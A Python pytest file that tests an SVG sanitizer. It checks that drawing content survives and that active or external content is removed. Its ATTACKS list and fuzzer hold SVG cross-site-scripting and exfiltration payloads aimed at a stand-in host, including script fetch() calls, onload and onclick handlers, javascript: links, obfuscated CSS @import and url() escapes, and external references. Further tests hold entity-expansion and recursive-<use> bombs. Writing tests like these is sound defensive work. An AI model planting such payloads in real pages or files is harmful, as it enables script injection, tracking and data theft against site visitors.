"""A drawing keeps its shapes and loses whatever could act, ask another site or tell on someone."""

from __future__ import annotations

import re
from io import BytesIO
from pathlib import Path
from xml.etree import ElementTree

import pytest
from hypothesis import given
from hypothesis import strategies as st

from .reading import NotAPictureError
from .svg import MAX_BYTES, read_drawing
from .svg_names import ATTRIBUTES, ELEMENTS

CONTENT = Path(__file__).parents[2] / "content"
OPEN = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" {}>'
START = OPEN.format('viewBox="0 0 64 36"')
SECRET = "lay-cap.example"
# One black point.
PNG = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAAAAAA6fptVAAAACklEQVR4nGNgAAAAAgABSK+kcQAAAABJRU5ErkJggg=="

ATTACKS = [
    f"<script>fetch('//{SECRET}')</script>",
    f'<script href="https://{SECRET}/a.js"/>',
    f'<script xlink:href="https://{SECRET}/a.js"/>',
    f"<path d='M0 0' onload=\"fetch('//{SECRET}')\"/>",
    f'<g onclick="location=\'//{SECRET}\'"><rect width="1"/></g>',
    f"<foreignObject><div xmlns='http://www.w3.org/1999/xhtml'>{SECRET}</div></foreignObject>",
    f"<iframe xmlns='http://www.w3.org/1999/xhtml' src='//{SECRET}'/>",
    f'<image href="https://{SECRET}/a.png" width="9" height="9"/>',
    f'<image xlink:href="//{SECRET}/a.png" width="9" height="9"/>',
    f'<image href="data:text/html,{SECRET}"/>',
    f'<image href="data:image/svg+xml,{SECRET}"/>',
    f'<use href="https://{SECRET}/a.svg#a"/>',
    f'<use xlink:href="data:image/svg+xml;base64,{SECRET}#a"/>',
    f'<a href="javascript:fetch(\'{SECRET}\')"><path d="M0 0"/></a>',
    f'<a xlink:href="https://{SECRET}"><path d="M0 0"/></a>',
    f"<style>@import url(https://{SECRET}/a.css);</style>",
    f"<style>@import '//{SECRET}/a.css'</style>",
    f"<style>@im/**/port '//{SECRET}/a.css'; path {{fill: url(//{SECRET}#a)}}</style>",
    f"<style>@font-face {{font-family: a; src: url('https://{SECRET}/a.woff2')}}</style>",
    f"<style>path {{fill: u\\72l(https://{SECRET})}}</style>",
    f"<style>path {{background: image-set('https://{SECRET}' 1x)}}</style>",
    f'<style><![CDATA[path {{fill: url( "https://{SECRET}" )}}]]></style>',
    f"<style>path {{fill: url(https://{SECRET}</style>",
    f'<path d="M0 0" style="fill: url(//{SECRET}#a)"/>',
    f'<path d="M0 0" fill="url(https://{SECRET}#a)"/>',
    f'<path d="M0 0" filter="URL(&quot;//{SECRET}#a&quot;)"/>',
    f'<path d="M0 0" mask="u\\rl(//{SECRET}#a)"/>',
    f'<set attributeName="href" to="https://{SECRET}"/>',
    f'<animate attributeName="href" values="javascript:{SECRET}"/>',
    f'<feImage href="https://{SECRET}/a.png"/>',
    f"<metadata><author>{SECRET}</author></metadata>",
    f'<g xmlns:inkscape="http://www.inkscape.org/n" inkscape:export="C:\\{SECRET}"/>',
    f"<!-- {SECRET} -->",
    f"<?xml-stylesheet href='https://{SECRET}/a.css'?>",
    f'<g xml:base="https://{SECRET}/"><use href="#a"/></g>',
    f'<handler xmlns="http://www.w3.org/2001/xml-events" event="load">{SECRET}</handler>',
]
DANGER = re.compile(
    rb"script|javascript|foreignobject|\bon\w+\s*=|@import|data:text|data:image/svg|<!|<\?|"
    + b"//l",
    re.IGNORECASE,
)


def cleaned(tmp_path: Path, svg: str) -> str:
    path = tmp_path / "hinh.svg"
    path.write_text(svg, encoding="utf-8")
    return read_drawing(path).data.decode()


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_acts_or_asks_another_site(tmp_path: Path, attack: str) -> None:
    result = cleaned(tmp_path, f'{START}{attack}<circle r="5"/></svg>')
    assert SECRET not in result
    assert not DANGER.search(result.encode())
    assert '<circle r="5"/>' in result


@pytest.mark.parametrize(
    "drawing",
    [
        '<path d="M0 0L9 9" fill="#fff" stroke-width="2"/>',
        '<defs><linearGradient id="a" x1="0"><stop offset=".5" stop-color="red"/>'
        '</linearGradient></defs><rect fill="url(#a)"/>',
        '<g id="b"><circle r="2"/></g><use href="#b" x="4"/>',
        "<title>Cầu Nà Cù &amp; sông</title><desc>Tên &lt;cũ></desc>".replace("></d", "&gt;</d"),
        '<text x="1">Phủ <tspan dy="2">Thông</tspan> đón khách</text>',
        "<style>.a{fill:url(#a)}.b > path{stroke:red}</style>".replace(" > ", " "),
        f'<image href="data:image/png;base64,{PNG}" width="4"/>',
        '<filter id="f"><feGaussianBlur stdDeviation="2"/></filter><g filter="url(#f)"/>',
    ],
)
def test_what_draws_is_kept_as_it_was(tmp_path: Path, drawing: str) -> None:
    start = '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 64 36">'
    assert cleaned(tmp_path, f"{start}{drawing}</svg>") == f"{start}{drawing}</svg>"


def test_old_addresses_inside_the_drawing_are_kept_in_todays_form(tmp_path: Path) -> None:
    result = cleaned(tmp_path, f'{START}<g id="a"/><a><use xlink:href="#a"/></a></svg>')
    assert '<g id="a"/><use href="#a"/>' in result


def test_the_projects_drawings_come_through_whole(tmp_path: Path) -> None:
    drawings = sorted(CONTENT.glob("anh/**/*.svg"))
    assert drawings
    for path in drawings:
        before, after = path.read_bytes(), read_drawing(path).data
        parsed = [ElementTree.parse(BytesIO(data)) for data in (before, after)]
        elements = [
            [(e.tag, e.attrib, (e.text or "").strip()) for e in tree.iter()] for tree in parsed
        ]
        assert elements[0] == elements[1], path.name
        again = tmp_path / path.name
        again.write_bytes(after)
        assert read_drawing(again) == read_drawing(path)


@pytest.mark.parametrize(
    ("svg", "word"),
    [
        (
            '<!DOCTYPE svg [<!ENTITY a "x"><!ENTITY b "&a;&a;">]>' + START + "&b;</svg>",
            "ENTITY",
        ),
        (START + "<path", "bị hỏng"),
        ('<svg xmlns="http://www.w3.org/2000/svgz"><path d="M0 0h9"/></svg>', "bị hỏng"),
        (START + "<title>" + "a" * MAX_BYTES + "</title></svg>", "500 kB"),
        (
            START
            + '<g id="a0"><path/></g>'
            + "".join(f'<g id="a{n + 1}">' + f'<use href="#a{n}"/>' * 10 + "</g>" for n in range(9))
            + "</svg>",
            "quá nhiều lần",
        ),
        (START + '<g id="a"><use href="#a"/><use href="#a"/></g></svg>', "lặp vòng"),
    ],
)
def test_a_drawing_that_bursts_is_refused_by_name(tmp_path: Path, svg: str, word: str) -> None:
    with pytest.raises(NotAPictureError) as caught:
        cleaned(tmp_path, svg)
    assert word in caught.value.sentence
    assert "hinh.svg" in caught.value.sentence
    assert caught.value.remedy


NAMES = st.sampled_from([*sorted(ELEMENTS), "script", "foreignObject", "a", "set", "iframe", "x"])
KEYS = st.sampled_from([*sorted(ATTRIBUTES), "onload", "onclick", "src", "xlink:href", "ping"])
PIECES = st.sampled_from(
    [
        "url(",
        ")",
        "#a",
        "//lay",
        "https:",
        "javascript:",
        "data:",
        "image/png;base64,",
        PNG,
        "\\",
    ]
) | st.sampled_from(
    ["@import ", "/*", "*/", "'", ";", "u", "rl(", "none", " ", "\n", "5", "image-set(", "@charset"]
)
VALUES = st.lists(PIECES, max_size=8).map("".join)


def test_an_element_that_only_held_an_unwrapped_one_is_written_the_same_twice(
    tmp_path: Path,
) -> None:
    once = cleaned(tmp_path, f"{START}<g><a></a></g></svg>")
    assert cleaned(tmp_path, once) == once


@st.composite
def trees(draw: st.DrawFn, depth: int = 3) -> str:
    name = draw(NAMES)
    pairs = draw(st.dictionaries(KEYS, VALUES, max_size=3)).items()
    attributes = "".join(
        f' {key}="{value.replace("&", "&amp;").replace("<", "&lt;")}"' for key, value in pairs
    )
    inner = "".join(draw(st.lists(trees(depth - 1), max_size=3))) if depth else draw(VALUES)
    return f"<{name}{attributes}>{inner}</{name}>"


@given(tree=trees())
def test_no_mixture_acts_or_asks(tmp_path_factory: pytest.TempPathFactory, tree: str) -> None:
    folder = tmp_path_factory.getbasetemp()
    try:
        result = cleaned(folder, f"{START}{tree}</svg>")
    except NotAPictureError:
        return
    for element in ElementTree.fromstring(result).iter():
        assert element.tag.rpartition("}")[2] in ELEMENTS
        assert set(element.attrib) <= ATTRIBUTES
        for value in [*element.attrib.values(), element.text or ""]:
            if element.tag.endswith("}style") or value in element.attrib.values():
                reached = re.findall(r"url\(([^)]*)", value, re.IGNORECASE)
                assert all(address.startswith("#") for address in reached)
                assert "@import" not in value
        href = element.get("href", "#")
        assert href.startswith(("#", "data:image/png;base64,"))
    assert cleaned(folder, result) == result
